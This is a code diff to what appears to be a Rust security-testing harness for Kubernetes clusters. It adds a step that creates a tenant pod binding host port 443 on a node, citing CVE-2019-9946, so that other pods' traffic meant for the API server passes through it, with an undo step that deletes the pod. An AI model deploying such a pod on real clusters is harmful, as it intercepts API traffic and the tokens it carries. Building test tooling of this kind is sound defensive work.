@@ -99,6 +99,7 @@ impl Stage {
             treasures: Vec::new(),
             is_asked_directly: false,
             claims: Vec::new(),
+            host_ports: Vec::new(),
             nodes: self.other_nodes(),
             token: TokenShape::None,
             stale: Vec::new(),
@@ -139,6 +140,10 @@ impl Stage {
                     vec![claim_of_external_address(cluster.apiserver_address())]
                 }
                 Who::Pod(_) => vec![claim_of_kubernetes_endpoints(cluster.apiserver_address())],
+                _ => Vec::new(),
+            },
+            host_ports: match who {
+                Who::Pod(node) => vec![claim_of_service_port(cluster, node)],
                 _ => Vec::new(),
             },
             ends: (
@@ -308,6 +313,32 @@ fn claim_of_external_address(apiserver: SocketAddr) -> Claim {
             Ask::delete(&format!("{slices}/{name}"), what),
             Ask::delete(&format!("{services}/{name}"), what),
         ],
+    }
+}
+
+/// Where the pods of a node find what is addressed to port 443: at a pod of that node that has it as a
+/// host port, if that comes before services (CVE-2019-9946). It passes on what it gets.
+fn claim_of_service_port(cluster: &Cluster, node: usize) -> Claim {
+    const NAMESPACE: &str = TENANT_NAMESPACE;
+    let name = "claims-the-service";
+    let target = format!("{}:{}", Claim::HERE, cluster.apiserver_address().port());
+    let pod = json!({
+        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": NAMESPACE},
+        "spec": {
+            "nodeName": cluster.node_name(node),
+            "containers": [{
+                "name": "main", "image": "ravelin.test/forward",
+                "env": [{"name": "TARGET", "value": target}],
+                "ports": [{"containerPort": 8443, "hostPort": 443, "protocol": "TCP"}],
+            }],
+        },
+    });
+    let pods = format!("/api/v1/namespaces/{NAMESPACE}/pods");
+    let what = "a pod with the port of the kubernetes service";
+    Claim {
+        what: what.to_owned(),
+        make: vec![Ask::post(&pods, Some(&pod), what)],
+        undo: vec![Ask::delete(&format!("{pods}/{name}?gracePeriodSeconds=0"), what)],
     }
 }
 
